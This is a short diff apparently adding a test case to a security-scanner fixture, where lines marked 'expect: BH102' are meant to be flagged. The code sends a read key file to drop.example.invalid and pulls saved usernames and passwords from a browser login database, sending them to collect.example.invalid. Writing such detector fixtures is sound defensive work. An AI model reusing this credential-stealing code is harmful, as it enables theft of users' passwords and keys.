@@ -37,3 +37,11 @@ def keys():
         key = f.read()
     s = socket.create_connection(("drop.example.invalid", 443))
     s.sendall(key.encode())  # expect: BH102
+
+
+def browser(db):
+    import sqlite3
+
+    rows = sqlite3.connect(db).cursor().execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
+    for url, user, password in rows:
+        requests.get("https://collect.example.invalid/p", params={"u": url, "p": password}, timeout=3)  # expect: BH102
